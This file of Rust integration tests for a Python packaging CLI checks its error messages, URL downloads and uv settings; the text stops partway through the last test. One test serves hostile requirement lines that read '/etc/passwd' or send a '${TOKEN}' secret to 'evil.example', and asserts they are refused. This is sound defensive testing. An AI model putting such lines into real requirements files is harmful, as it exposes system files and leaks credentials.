//! What is named on the command line and in requirements files that is not what it should be: each is told
//! with what it is, where it is, and the command or line that helps. And files that are downloaded.

use std::process::Stdio;

use prebuild::digest::Digest;
use serde_json::Value;

use crate::support::sandbox::{Ran, Sandbox, names, unpacked};
use crate::support::server::{Answer, Server};
use crate::support::wheel::{WheelBuilder, project as project_with_backend};

/// Runs with these arguments; checks that it fails so, that nothing is written, and returns what is said.
fn said(sandbox: &Sandbox, args: &[&str], code: i32) -> String {
    let before = names(&sandbox.work());
    let ran = sandbox.run(args).fails(code, &[]);
    assert_eq!(names(&sandbox.work()), before, "{args:?}");
    ran.stderr
}

/// The same of one requirements file with a text.
fn of_text(text: impl AsRef<[u8]>) -> String {
    let sandbox = Sandbox::new();
    sandbox.write("requirements.txt", text);
    said(&sandbox, &["requirements.txt", "--no-index"], 2)
}

#[test]
fn an_image_needs_an_engine() {
    let sandbox = Sandbox::new().env("PATH", "/nowhere");
    sandbox.write("requirements.txt", "six==1.16.0\n");
    let args = ["requirements.txt", "--image", "python:3.11", "-q"];
    insta::assert_snapshot!(said(&sandbox, &args, 3), @r"
    error: --image python:3.11 needs a container engine, and no engine answers: cannot find `docker`; cannot find `podman`
    hint: check `docker version` or `podman version`; without an image, prebuild needs no engine
    ");
    let args = ["requirements.txt", "--runtime", "python:3.11-slim", "-q"];
    insta::assert_snapshot!(said(&sandbox, &args, 3), @r"
    error: the runtime image python:3.11-slim needs a container engine, and no engine answers: cannot find `docker`; cannot find `podman`
    hint: check `docker version` or `podman version`; without an image, prebuild needs no engine
    ");
}

/// No option is dropped because what it is for is missing.
#[test]
fn options_without_a_use_are_refused() {
    let sandbox = Sandbox::new();
    sandbox.write("requirements.txt", "six==1.16.0\n");
    sandbox.write(
        "pylock.toml",
        "lock-version = \"1.0\"\ncreated-by = \"x\"\npackages = []\n",
    );
    let target = "requirements.txt --python 3.11 --platform linux/arm64";
    let mut told = String::new();
    for args in [
        "requirements.txt --network none",
        "requirements.txt --engine-arg=--memory=1g",
        "requirements.txt --builder local --image python:3.11",
        "requirements.txt --builder docker",
        &format!("{target} --image python:3.11"),
        &format!("{target} --builder podman"),
        &format!("{target} --builder local"),
        &format!("{target} --env A=1"),
        &format!("{target} --network none"),
        &format!("{target} --engine-arg=-x"),
        &format!("{target} --compile"),
        &format!("{target} --installer pip"),
        "requirements.txt --installer pip --allow-unlisted",
        "requirements.txt --installer pip --max-wheel-size 1GiB",
        "requirements.txt --installer pip --max-wheel-ratio 5",
        "requirements.txt --installer pip --index-strategy first-index",
        "requirements.txt --runtime-python 3.11",
        "requirements.txt --runtime /bin/sh --runtime-python 3.11",
        "requirements.txt --format pylock",
        "lock requirements.txt --format pylock",
        "lock requirements.txt --format requirements -o x.toml",
        "lock requirements.txt --locked --upgrade",
        "lock requirements.txt --locked -P six",
        "cache dir --format requirements",
        "runtime /bin/sh --format pylock",
        "verify requirements.txt --runtime / --env A=1",
        "verify requirements.txt --runtime / --ca-cert x.pem",
        "pylock.toml --constraint requirements.txt",
        "pylock.toml --pre",
        "pylock.toml --prefer-binary",
        "- -",
    ] {
        let args: Vec<&str> = args.split(' ').collect();
        let text = said(&sandbox, &args, 2);
        told.push_str(text.lines().next().unwrap());
        told.push('\n');
    }
    insta::assert_snapshot!(told);
}

#[test]
fn an_empty_value_is_no_value() {
    let sandbox = Sandbox::new();
    sandbox.write("requirements.txt", "six==1.16.0\n");
    for option in [
        "--index-url",
        "--extra-index-url",
        "--find-links",
        "--image",
        "--python",
        "--runtime",
    ] {
        let text = said(&sandbox, &["requirements.txt", option, ""], 2);
        assert!(
            text.contains(&format!("a value is required for '{option} <")),
            "{text}"
        );
    }
    // An unset variable of a script: the public index would be asked in its place.
    let sandbox = Sandbox::new().env("PREBUILD_INDEX_URL", "");
    sandbox.write("requirements.txt", "six==1.16.0\n");
    let text = said(&sandbox, &["requirements.txt"], 2);
    assert!(
        text.contains("a value is required for '--index-url <URL>'"),
        "{text}"
    );
}

#[test]
fn nothing_to_install_is_told() {
    let sandbox = Sandbox::new();
    sandbox.write("empty.txt", "# nothing yet\n\n");
    sandbox.write(
        "windows.txt",
        "pywin32 ; sys_platform == 'win32'\ncolorama ; os_name == 'nt'\n",
    );
    sandbox.write(
        "pyproject.toml",
        "[project]\nname = \"demo\"\nversion = \"1\"\n",
    );
    let warned = |args: &[&str]| {
        let ran = sandbox.offline(&[args, &["-q"]].concat()).ok();
        ran.stderr
    };
    insta::assert_snapshot!(warned(&["empty.txt"]), @"warning: no requirements in `empty.txt`: the artifact is empty");
    insta::assert_snapshot!(
        warned(&["windows.txt", "--python", "3.11", "--platform", "linux/amd64"]),
        @"warning: 2 requirements in `windows.txt`, but the markers exclude all of them for CPython 3.11.0 on linux-x86_64, glibc 2.28: the artifact is empty"
    );
    insta::assert_snapshot!(warned(&["pyproject.toml"]), @"warning: no requirements in `pyproject.toml`: the artifact is empty");
}

#[test]
fn empty_standard_input_is_a_mistake() {
    let sandbox = Sandbox::new();
    for text in ["", "\n \n"] {
        let mut child = sandbox
            .command(&["-"])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        std::io::Write::write_all(&mut child.stdin.take().unwrap(), text.as_bytes()).unwrap();
        let ran = Ran::new(&child.wait_with_output().unwrap(), &sandbox).fails(2, &[]);
        insta::allow_duplicates! {
            insta::assert_snapshot!(ran.stderr, @"error: standard input is empty: `-` reads requirements from it");
        }
    }
}

#[test]
fn names_that_are_nearly_right() {
    let sandbox = Sandbox::new();
    sandbox.write("requirements.txt", "six==1.16.0\n-r dev-requirement.txt\n");
    sandbox.write("constraints.txt", "six<2\n");
    sandbox.write("dev-requirements.txt", "six\n");
    let mut told = String::new();
    for args in [
        &["requirments.txt"][..],
        &["requirements.txt."],
        &["Requirements.txt", "-q"],
        &["constraints.txt", "-c", "constraint.txt"],
        &["requirements.txt"],
        &["lokc", "requirements.txt"],
        &["plna", "requirements.txt"],
        &["install", "requirements.txt"],
        &["nothing-like-it.txt"],
        &["sub/pyproject.toml"],
        &["requirements.txt", "--imgae", "python:3.11"],
        &["requirements.txt", "--extra-index-urls", "x"],
    ] {
        told.push_str(&format!(
            "$ prebuild {}\n{}",
            args.join(" "),
            said(&sandbox, args, 2)
        ));
    }
    insta::assert_snapshot!(told);
}

#[test]
fn files_of_other_tools_are_known_by_name() {
    let sandbox = Sandbox::new();
    let files = [
        "uv.lock",
        "poetry.lock",
        "pdm.lock",
        "Pipfile",
        "Pipfile.lock",
        "environment.yml",
        "conda-lock.yml",
        "pixi.toml",
        "pixi.lock",
        "setup.py",
        "setup.cfg",
        "package.json",
        "Dockerfile",
        "demo-1.0-py3-none-any.whl",
        "demo-1.0.tar.gz",
        "demo.zip",
        "notebook.ipynb",
        "noxfile.py",
    ];
    let mut told = String::new();
    for file in files {
        sandbox.write(file, "");
        told.push_str(&said(&sandbox, &[file], 2));
    }
    sandbox.write("app/requirements.txt", "six\n");
    sandbox.write("app/pyproject.toml", "");
    sandbox.write("old/setup.py", "");
    sandbox.write("none/x", "");
    for folder in ["app", "old", "none/", "."] {
        told.push_str(&said(&sandbox, &[folder], 2));
    }
    // Named by a requirements file, or for constraints.
    sandbox.write("requirements.txt", "six\n-r uv.lock\n");
    told.push_str(&said(&sandbox, &["requirements.txt"], 2));
    told.push_str(&said(
        &sandbox,
        &["app/requirements.txt", "-c", "poetry.lock"],
        2,
    ));
    insta::assert_snapshot!(told);
}

#[test]
fn files_of_other_tools_are_known_by_content() {
    let sandbox = Sandbox::new();
    let uv = "version = 1\nrequires-python = \">=3.12\"\n\n[[package]]\nname = \"six\"\nversion = \"1.16.0\"\n";
    let poetry = "[[package]]\nname = \"six\"\n\n[metadata]\nlock-version = \"2.0\"\n";
    let cases: [(&str, &[u8]); 16] = [
        ("uv", uv.as_bytes()),
        ("poetry", poetry.as_bytes()),
        (
            "pylock",
            b"lock-version = \"1.0\"\ncreated-by = \"x\"\npackages = []\n",
        ),
        ("project", b"[project]\nname = \"x\"\n"),
        ("pipfile", b"[packages]\nsix = \"*\"\n"),
        ("pipenv", b"{\"_meta\": {}, \"default\": {}}"),
        ("npm", b"{\"scripts\": {}}"),
        (
            "conda",
            b"name: x\nchannels:\n  - defaults\ndependencies:\n  - six\n",
        ),
        (
            "explicit",
            b"# platform: linux-64\n@EXPLICIT\nhttps://host/six-1.16.0.conda\n",
        ),
        ("page", b"<!DOCTYPE html>\n<html></html>\n"),
        ("zip", b"PK\x03\x04\x14\0\0\0\0\0"),
        ("gzip", b"\x1f\x8b\x08\0\0\0\0\0"),
        ("elf", b"\x7fELF\x02\x01\x01"),
        ("docker", b"FROM python:3.11\nRUN pip install six\n"),
        ("program", b"from setuptools import setup\nsetup()\n"),
        ("config", b"[metadata]\nname = x\n[options]\n"),
    ];
    let mut told = String::new();
    for (name, data) in cases {
        let name = format!("{name}.txt");
        sandbox.write(&name, data);
        told.push_str(&said(&sandbox, &[&name, "--no-index"], 2));
    }
    insta::assert_snapshot!(told);
}

/// Lines that other tools and word processors write.
#[test]
fn lines_that_only_look_right() {
    let mut told = String::new();
    for text in [
        "_libgcc_mutex=0.1=main\n",
        "numpy=1.26.4=py311h64a7726_0\n",
        "numpy=1.26.4\n",
        "certifi @ file:///croot/certifi_1671487769961/work/certifi\n",
        "–r other.txt\n",
        "requests==2.31.0 ; python_version >= “3.8”\n",
        "requests\u{a0}==2.31.0\n",
        "requests==2.31.0\u{200b}\n",
        "requests≥2.31\n",
        "requests==2.31.0\0\n",
        ".\\vendor\\pkg\n",
        "C:\\Users\\me\\pkg-1.0-py3-none-any.whl\n",
        "C:/Users/me/pkg-1.0-py3-none-any.whl\n",
        "# Editable install with no version control (demo==1.0)\n-e /home/me/demo\n",
        "requests==${VERSION}\n",
        "-r https://${HOST}/requirements.txt\n",
    ] {
        told.push_str(&of_text(text));
    }
    let wide = |text: &str, big: bool, bytes: usize| -> Vec<u8> {
        text.bytes()
            .flat_map(|byte| {
                let mut unit = vec![0; bytes];
                unit[if big { bytes - 1 } else { 0 }] = byte;
                unit
            })
            .collect()
    };
    for (big, bytes) in [(false, 2), (true, 2), (false, 4), (true, 4)] {
        told.push_str(&of_text(wide("requests==2.31.0\r\nsix\r\n", big, bytes)));
    }
    insta::assert_snapshot!(told);
}

#[test]
fn lines_that_mean_nothing_are_told() {
    let sandbox = Sandbox::new();
    WheelBuilder::new("six", "1.16.0")
        .file("six.py", "")
        .build(&sandbox.links());
    sandbox.write(
        "requirements.txt",
        "six==1.16.0\npkg-resources==0.0.0 ; python_version < '3'\n--trusted-host ${NO_SUCH}\n--trusted-host ${NOTHING}\n",
    );
    let sandbox = sandbox.env("NOTHING", "");
    let ran = sandbox.offline(&["requirements.txt", "-q"]).ok();
    insta::assert_snapshot!(ran.stderr, @r"
    warning: requirements.txt:2:1: no index has this distribution: `pip freeze` of Debian and Ubuntu wrote the line, delete it
    warning: requirements.txt:3:16: the environment variable `NO_SUCH` is not set: `${NO_SUCH}` stays as it is
    warning: requirements.txt:4:16: the environment variable `NOTHING` is empty: `${NOTHING}` stays as it is
    ");
}

/// The index refuses what stands for a token: the variable is named before.
#[test]
fn a_token_that_is_not_set_is_named() {
    let server = Server::start();
    server.route("/simple/six/", [Answer::status(401)]);
    let sandbox = Sandbox::new();
    let host = server.url.strip_prefix("http://").unwrap();
    sandbox.write(
        "requirements.txt",
        format!("--index-url http://me:${{TOKEN}}@{host}/simple\nsix==1.16.0\n"),
    );
    let ran = sandbox
        .run(&[
            "requirements.txt",
            "-q",
            "--python",
            "3.11",
            "--platform",
            "linux/amd64",
        ])
        .fails(1, &[]);
    insta::assert_snapshot!(ran.stderr.replace(host, "[HOST]"), @r"
    warning: requirements.txt:1:23: the environment variable `TOKEN` is not set: `${TOKEN}` stays as it is
    error: requirements.txt:2:1: the download for `six==1.16.0` failed
      caused by: `http://****@[HOST]/simple/six/` answers with status 401
    hint: the index requires credentials: put a user and a password in its URL, or in ~/.netrc
    ");
}

#[test]
fn a_missing_place_for_temporary_files_is_named() {
    let sandbox = Sandbox::new().env("TMPDIR", "/nowhere");
    sandbox.write("requirements.txt", "six==1.16.0\n");
    let text = said(&sandbox, &["requirements.txt"], 3);
    assert!(
        text.starts_with(
            "error: cannot write temporary files to `/nowhere`: No such file or directory"
        ),
        "{text}"
    );
    assert!(
        text.ends_with(
            "hint: TMPDIR names this directory: set it to one that exists and is writable\n"
        ),
        "{text}"
    );
}

#[test]
fn a_dead_proxy_is_named() {
    let proxy = crate::support::index::nowhere();
    let host = proxy
        .trim_start_matches("http://")
        .split('/')
        .next()
        .unwrap()
        .to_owned();
    let sandbox = Sandbox::new().env("HTTP_PROXY", format!("http://me:s3cret@{host}"));
    sandbox.write("requirements.txt", "six==1.16.0\n");
    let args = [
        "requirements.txt",
        "-i",
        "http://index.example/simple",
        "--trusted-host",
        "index.example",
        "--python",
        "3.11",
        "--platform",
        "linux/amd64",
        "-q",
    ];
    let text = said(&sandbox, &args, 1);
    assert!(
        text.contains(&format!(
            "  caused by: cannot download `http://index.example/simple/six/` through the proxy `{host}`\n"
        )),
        "{text}"
    );
    assert!(
        text.contains("\nhint: check the proxy in HTTPS_PROXY, HTTP_PROXY,"),
        "{text}"
    );
    assert!(!text.contains("s3cret"), "{text}");
}

#[test]
fn a_local_version_names_the_index_that_has_it() {
    let sandbox = Sandbox::new();
    sandbox.write("torch.txt", "torch==1.9.0+cu102\n");
    sandbox.write("mine.txt", "mine==1.0+acme.1\n");
    WheelBuilder::new("torch", "1.9.0")
        .file("torch.py", "")
        .build(&sandbox.links());
    let mut told = String::new();
    for file in ["torch.txt", "mine.txt"] {
        let args = [file, "--python", "3.11", "--platform", "linux/amd64", "-q"];
        told.push_str(&sandbox.offline(&args).fails(1, &[]).stderr);
    }
    insta::assert_snapshot!(told);
}

/// The command that a hint names works: `uv pip compile` was run with it, and its file built.
#[test]
fn the_hint_for_another_platform_leads_somewhere() {
    let sandbox = Sandbox::new();
    sandbox.write("requirements.txt", "six\n");
    sandbox.write("limits.txt", "six<2\n");
    WheelBuilder::new("six", "1.16.0")
        .file("six.py", "")
        .build(&sandbox.links());
    let at = ["--python", "3.11", "--platform"];
    let run = |command: &[&str], platform: &str| {
        let args = [command, &["requirements.txt", "-q"], &at, &[platform]].concat();
        sandbox.offline(&args).fails(1, &[]).stderr
    };
    let build = run(&["-c", "limits.txt"], "linux/arm64");
    insta::assert_snapshot!(build, @r"
    error: this needs pip on CPython 3.11.0 on linux-aarch64, glibc 2.28, and --platform uses no builder: `six` is not pinned
    hint: uv resolves for other platforms: `uv pip compile requirements.txt -c limits.txt --python-version 3.11 --python-platform aarch64-manylinux_2_28 --only-binary :all: --generate-hashes -o locked.txt`, then `prebuild locked.txt --python 3.11 --platform manylinux_2_28_aarch64`
    ");
    assert_eq!(run(&["lock", "-c", "limits.txt"], "linux/arm64"), build);
    insta::assert_snapshot!(run(&[], "linux/s390x"), @r"
    error: this needs pip on CPython 3.11.0 on linux-s390x, glibc 2.28, and --platform uses no builder: `six` is not pinned
    hint: run `prebuild lock` on that platform, and build here from its pylock.toml
    ");
}

/// pip asks all indexes alike: it cannot keep to an order of them.
#[test]
fn pip_does_not_choose_where_the_order_of_indexes_matters() {
    let sandbox = Sandbox::new();
    sandbox.write("requirements.txt", "six\n");
    let args = [
        "requirements.txt",
        "-q",
        "--index-strategy",
        "first-index",
        "--extra-index-url",
        "http://127.0.0.1:9/simple",
    ];
    insta::assert_snapshot!(said(&sandbox, &args, 1), @r"
    error: this needs pip, and pip does not support `--index-strategy first-index`: `six` is not pinned
    hint: pin every requirement (`name==version`), use one index only, or pass `--index-strategy unsafe-best-match`
    ");
}

// Files that are downloaded.

type Pairs = Vec<(String, String)>;

/// What `plan` says of the inputs and of the requirements.
fn planned(sandbox: &Sandbox, args: &[&str]) -> (Pairs, Pairs) {
    let args = [&["plan", "--format", "json", "-q"], args].concat();
    let ran = sandbox.offline(&args).ok();
    let plan: Value = serde_json::from_str(&ran.stdout).unwrap();
    let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
    let list = |key: &str| plan[key].as_array().unwrap().clone();
    let inputs = list("files")
        .iter()
        .map(|file| (text(&file["path"]), text(&file["digest"])))
        .collect();
    let entries = list("requirements")
        .iter()
        .map(|entry| {
            let at = format!("{}:{}", text(&entry["file"]), entry["line"]);
            (text(&entry["written"]), at)
        })
        .collect();
    (inputs, entries)
}

#[test]
fn files_at_urls_are_downloaded_and_recorded() {
    let server = Server::start();
    let plain = |text: &str| Answer::ok("text/plain", text);
    let main = "six==1.16.0\n-r more/more.txt\n-c /limits.txt\n";
    server.route("/app/requirements.txt", [plain(main)]);
    server.route("/app/more/more.txt", [plain("-r ../last.txt\n")]);
    server.route("/app/last.txt", [Answer::redirect("/elsewhere/last.txt")]);
    server.route("/elsewhere/last.txt", [plain("demo==1.0\n")]);
    server.route("/limits.txt", [plain("six<2\n")]);
    let sandbox = Sandbox::new();
    for (name, version) in [("six", "1.16.0"), ("demo", "1.0")] {
        WheelBuilder::new(name, version)
            .file("x.py", "")
            .build(&sandbox.links());
    }
    let host = server.url.strip_prefix("http://").unwrap();
    let url = format!("http://me:s3cret@{host}/app/requirements.txt");
    let (inputs, entries) = planned(&sandbox, &[&url]);
    let shown = format!("http://****@{host}");
    let digest = |text: &str| Digest::of(text.as_bytes()).to_string();
    assert_eq!(
        inputs,
        [
            (format!("{shown}/app/requirements.txt"), digest(main)),
            (
                format!("{shown}/app/more/more.txt"),
                digest("-r ../last.txt\n")
            ),
            (format!("{shown}/app/last.txt"), digest("demo==1.0\n")),
            (format!("{shown}/limits.txt"), digest("six<2\n")),
        ]
    );
    assert_eq!(
        entries,
        [
            (
                "six==1.16.0".to_owned(),
                format!("{shown}/app/requirements.txt:1")
            ),
            ("demo==1.0".to_owned(), format!("{shown}/app/last.txt:1")),
        ]
    );
    // Credentials go to the host of the URL.
    let asked = server.asked();
    assert!(!asked.is_empty());
    for asked in asked {
        assert_eq!(
            asked.headers["authorization"], "Basic bWU6czNjcmV0",
            "{}",
            asked.target
        );
    }
}

/// Airflow's way: constraints at a URL, on the command line, in a file, and in pip's variable.
#[test]
fn constraints_may_be_at_a_url() {
    let server = Server::start();
    server.route(
        "/constraints.txt",
        [Answer::ok("text/plain", "demo==1.0\n")],
    );
    let url = format!("{}/constraints.txt", server.url);
    let links = |sandbox: &Sandbox| {
        for version in ["1.0", "2.0"] {
            WheelBuilder::new("demo", version)
                .file("demo.py", "")
                .build(&sandbox.links());
        }
    };
    let installed = |sandbox: &Sandbox, args: &[&str]| {
        let ran = sandbox.offline(&[&["plan", "-q", "--format", "requirements"], args].concat());
        let pin = ran.ok().stdout;
        assert!(pin.contains("\ndemo==1.0 "), "{pin}");
    };
    let sandbox = Sandbox::new();
    links(&sandbox);
    sandbox.write("requirements.txt", "demo\n");
    installed(&sandbox, &["requirements.txt", "-c", &url]);
    sandbox.write("with.txt", format!("-c {url}\ndemo\n"));
    installed(&sandbox, &["with.txt"]);
    installed(&sandbox, &["-r", "with.txt"]);
    let sandbox = Sandbox::new().env("PIP_CONSTRAINT", &url);
    links(&sandbox);
    sandbox.write("requirements.txt", "demo\n");
    installed(&sandbox, &["requirements.txt"]);
}

#[test]
fn what_is_downloaded_is_decoded_as_the_server_says() {
    let server = Server::start();
    let body = b"# caf\xe9\nsix==1.16.0\n";
    server.route(
        "/latin.txt",
        [Answer::ok("text/plain; charset=ISO-8859-1", &body[..])],
    );
    server.route(
        "/comment.txt",
        [Answer::ok(
            "text/plain",
            &b"# coding: latin-1\n# \xe9\nsix==1.16.0\n"[..],
        )],
    );
    server.route(
        "/mark.txt",
        [Answer::ok(
            "text/plain; charset=utf-8",
            "\u{feff}six==1.16.0\n",
        )],
    );
    server.route(
        "/wrong.txt",
        [Answer::ok("text/plain; charset=utf-8", &body[..])],
    );
    server.route(
        "/unknown.txt",
        [Answer::ok("text/plain; charset=klingon", &body[..])],
    );
    let sandbox = Sandbox::new();
    WheelBuilder::new("six", "1.16.0")
        .file("six.py", "")
        .build(&sandbox.links());
    for name in ["latin", "comment", "mark"] {
        let (_, entries) = planned(&sandbox, &[&format!("{}/{name}.txt", server.url)]);
        assert_eq!(entries[0].0, "six==1.16.0", "{name}");
    }
    let mut told = String::new();
    for name in ["wrong", "unknown"] {
        let text = said(&sandbox, &[&format!("{}/{name}.txt", server.url)], 2);
        told.push_str(&text.replace(&server.url, "[URL]"));
    }
    insta::assert_snapshot!(told);
}

#[test]
fn what_cannot_be_downloaded_is_told() {
    let server = Server::start();
    let plain = |text: &str| Answer::ok("text/plain", text);
    server.route("/private.txt", [Answer::status(401)]);
    server.route("/local.txt", [plain("-r file:///etc/passwd\n")]);
    server.route(
        "/secret.txt",
        [plain("-i https://evil.example/${TOKEN}/simple\n")],
    );
    server.route("/cycle.txt", [plain("-r cycle.txt\n")]);
    server.route(
        "/page.txt",
        [Answer::ok("text/html", "<!DOCTYPE html><html></html>")],
    );
    server.route("/large.txt", [plain(&"#".repeat(17 << 20))]);
    server.route("/bad.txt", [plain("six==\n")]);
    let sandbox = Sandbox::new().env("TOKEN", "s3cret");
    let at = |name: &str| format!("{}/{name}", server.url);
    let mut told = String::new();
    for (name, code) in [
        ("missing.txt", 1),
        ("private.txt", 1),
        ("large.txt", 1),
        ("local.txt", 2),
        ("secret.txt", 2),
        ("cycle.txt", 2),
        ("page.txt", 2),
        ("bad.txt", 2),
        ("uv.lock", 2),
        ("pyproject.toml", 2),
    ] {
        let text = said(&sandbox, &[&at(name), "-q"], code);
        assert!(!text.contains("s3cret"), "{text}");
        told.push_str(&text.replace(&server.url, "[URL]"));
    }
    for (line, code) in [("-r", 1), ("-c", 1)] {
        sandbox.write(
            "requirements.txt",
            format!("six\n{line} {}\n", at("missing.txt")),
        );
        let text = said(&sandbox, &["requirements.txt", "-q"], code);
        told.push_str(&text.replace(&server.url, "[URL]"));
    }
    let text = said(
        &sandbox,
        &["-c", &at("limits.txt"), "requirements.txt", "--offline"],
        1,
    );
    told.push_str(&text.replace(&server.url, "[URL]"));
    let text = said(&sandbox, &["http://host.example/requirements.txt", "-q"], 2);
    told.push_str(&text);
    insta::assert_snapshot!(told);
}

/// A server that fails for a moment is asked again.
#[test]
fn a_download_is_tried_again() {
    let server = Server::start();
    let good = Answer::ok("text/plain", "six==1.16.0\n");
    server.route("/r.txt", [Answer::status(503), good]);
    let sandbox = Sandbox::new().env("PIP_RETRIES", "2");
    WheelBuilder::new("six", "1.16.0")
        .file("six.py", "")
        .build(&sandbox.links());
    let (inputs, _) = planned(&sandbox, &[&format!("{}/r.txt", server.url)]);
    assert_eq!(inputs.len(), 1);
    assert_eq!(server.targets(), ["/r.txt", "/r.txt"]);
}

// Projects with settings of other tools.

/// A project's file with the dependencies `idna` and `six`, and more.
fn project(more: &str) -> String {
    format!(
        "[project]\nname = \"app\"\nversion = \"1\"\ndependencies = [\"idna>=3\", \"six\"]\n\n{more}\n"
    )
}

fn package(sandbox: &Sandbox, folder: &str, name: &str, more: &str) {
    let text = format!(
        "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n\n\
         [project]\nname = \"{name}\"\nversion = \"99\"\n{more}\n"
    );
    sandbox.write(&format!("{folder}/pyproject.toml"), text);
}

/// What `prebuild` would give pip: each requirement, and where it comes from.
fn requirements(sandbox: &Sandbox, args: &[&str]) -> Vec<String> {
    use prebuild::requirements::{Context, Input, Name, Requirements, What};
    let input = Input::Project {
        path: args[0].into(),
        extras: args[1..].iter().map(|name| Name::new(name)).collect(),
        groups: std::collections::BTreeSet::new(),
    };
    let env = std::collections::BTreeMap::new();
    let cwd = sandbox.work();
    let context = Context {
        env: &env,
        cwd: &cwd,
    };
    let read = Requirements::read(&[input], &[], &context).unwrap();
    let line = |entry: &prebuild::requirements::Entry| {
        let what = match &entry.what {
            What::Named { name, specifier } => format!("{name}{specifier}"),
            What::Url { url, .. } => format!("{} @ {url}", entry.name().unwrap()),
            What::Path { path, fragment, .. } => {
                let path = path.strip_prefix(&cwd).unwrap();
                let fragment = fragment.as_ref().map(|text| format!("#{text}"));
                format!(
                    "{} @ {}{}",
                    entry.name().unwrap(),
                    path.display(),
                    fragment.unwrap_or_default()
                )
            }
        };
        match &entry.marker {
            Some(marker) => format!("{what} ; {marker}"),
            None => what,
        }
    };
    let mut lines: Vec<String> = read.entries().iter().map(line).collect();
    lines.extend(
        read.constraints()
            .iter()
            .map(|entry| format!("-c {}", line(entry))),
    );
    lines.extend(
        read.options()
            .index_url
            .iter()
            .map(|url| format!("-i {}", url.value)),
    );
    lines.extend(
        read.warnings()
            .iter()
            .map(|warning| format!("{}: {}", warning.at, warning.text)),
    );
    lines
}

#[test]
fn sources_of_uv_are_honoured() {
    let sandbox = Sandbox::new();
    package(
        &sandbox,
        "idna-fork",
        "idna",
        "dependencies = [\"deep\"]\n[tool.uv.sources]\ndeep = { path = \"../deep\" }\nunused = { index = \"private\" }",
    );
    package(&sandbox, "deep", "deep", "");
    sandbox.write("wheels/six-1.16.0-py3-none-any.whl", "");
    let of = |sources: &str| {
        sandbox.write(
            "pyproject.toml",
            project(&format!("[tool.uv.sources]\n{sources}")),
        );
        requirements(&sandbox, &["pyproject.toml"])
    };
    assert_eq!(
        of(
            "idna = { path = \"./idna-fork\" }\nsix = { path = \"wheels/six-1.16.0-py3-none-any.whl\" }"
        ),
        [
            "idna @ idna-fork",
            "six @ wheels/six-1.16.0-py3-none-any.whl",
            "-c deep @ deep"
        ]
    );
    assert_eq!(
        of(
            "idna = { git = \"https://host/idna\", tag = \"v3\", subdirectory = \"py\" }\nsix = { url = \"https://host/six-1.16.0.tar.gz\" }"
        ),
        [
            "idna @ git+https://host/idna@v3#subdirectory=py",
            "six @ https://host/six-1.16.0.tar.gz"
        ]
    );
    // Where no marker holds, an index has it.
    assert_eq!(
        of(
            "idna = [{ path = \"idna-fork\", marker = \"sys_platform == 'linux'\" }, { git = \"ssh://git@host/idna\", marker = \"sys_platform == 'win32'\" }]"
        ),
        [
            "idna @ idna-fork ; sys_platform == 'linux'",
            "idna @ git+ssh://****@host/idna ; sys_platform == 'win32'",
            "idna>=3",
            "six",
            "-c deep @ deep",
        ]
    );
    // One that is for an extra which is not asked for.
    assert_eq!(
        of("idna = { index = \"private\", extra = \"gpu\" }"),
        ["idna>=3", "six"]
    );
    sandbox.write(
        "pyproject.toml",
        project("[tool.uv]\nno-sources = true\nsources = { idna = { index = \"private\" } }"),
    );
    assert_eq!(
        requirements(&sandbox, &["pyproject.toml"]),
        ["idna>=3", "six"]
    );
}

#[test]
fn settings_of_uv_are_honoured() {
    let sandbox = Sandbox::new();
    let text = "[tool.uv]\nconstraint-dependencies = [\"idna<4\"]\ndev-dependencies = [\"pytest\"]\nresolution = \"lowest\"\n\n\
        [[tool.uv.index]]\nname = \"mirror\"\nurl = \"https://me:s3cret@mirror.example/simple\"\ndefault = true\n\n\
        [[tool.uv.index]]\nname = \"unused\"\nurl = \"https://unused.example/simple\"\nexplicit = true\n\n\
        [tool.uv.sources]\nidna = { index = \"mirror\" }\n";
    sandbox.write("pyproject.toml", project(text));
    assert_eq!(
        requirements(&sandbox, &["pyproject.toml"]),
        [
            "idna>=3",
            "six",
            "-c idna<4",
            "-i https://****@mirror.example/simple",
            "pyproject.toml:9:14: `tool.uv.resolution` has no effect here",
        ]
    );
}

#[test]
fn members_of_a_workspace_are_found() {
    let sandbox = Sandbox::new();
    sandbox.write(
        "pyproject.toml",
        "[tool.uv.workspace]\nmembers = [\"packages/*\"]\nexclude = [\"packages/old\"]\n\n[tool.uv.sources]\nidna = { workspace = true }\n",
    );
    package(&sandbox, "packages/idna", "idna", "");
    package(&sandbox, "packages/old", "six", "");
    package(
        &sandbox,
        "packages/app",
        "app",
        "dependencies = [\"idna\", \"six\"]\n[tool.uv.sources]\nsix = { workspace = true }",
    );
    let text = said(&sandbox, &["packages/app/pyproject.toml"], 2);
    insta::assert_snapshot!(text, @r#"
    error: packages/app/pyproject.toml:11:1: no member of the workspace is called `six`
    six = { workspace = true }
    ^
    hint: `[tool.uv.workspace]` in the pyproject.toml of the root lists the members
    "#);
    package(
        &sandbox,
        "packages/app",
        "app",
        "dependencies = [\"idna\", \"six\"]",
    );
    assert_eq!(
        requirements(&sandbox, &["packages/app/pyproject.toml"]),
        ["idna @ packages/idna", "six"]
    );
}

/// The fork is installed, and not what an index has.
#[test]
fn a_source_of_uv_is_installed() {
    let sandbox = Sandbox::new();
    project_with_backend(&sandbox.work().join("idna-fork"), "idna", "pass");
    for (name, version) in [("idna", "3.6"), ("six", "1.16.0")] {
        WheelBuilder::new(name, version)
            .file(&format!("{name}.py"), "FORK = False\n")
            .build(&sandbox.links());
    }
    sandbox.write(
        "pyproject.toml",
        project("[tool.uv.sources]\nidna = { path = \"./idna-fork\" }\n"),
    );
    sandbox
        .offline(&["pyproject.toml", "-o", "out.tar.gz"])
        .ok();
    let files = unpacked(&sandbox.work().join("out.tar.gz"));
    let (_, (_, text)) = files
        .iter()
        .find(|(path, _)| path.ends_with("/idna.py"))
        .unwrap();
    assert!(
        text.starts_with(b"HERE = "),
        "{}",
        String::from_utf8_lossy(text)
    );
}

#[test]
fn settings_that_pip_does_not_have_are_refused() {
    let mut told = String::new();
    for more in [
        "[tool.uv.sources]\nidna = { index = \"private\" }",
        "[[tool.uv.index]]\nname = \"private\"\nurl = \"https://me:s3cret@private.example/simple\"",
        "[tool.uv]\nextra-index-url = [\"https://private.example/simple\"]",
        "[tool.uv]\noverride-dependencies = [\"idna==2\"]",
        "[tool.uv.sources]\nidna = { path = \"missing\" }",
        "[tool.uv.sources]\nidna = { workspace = true }",
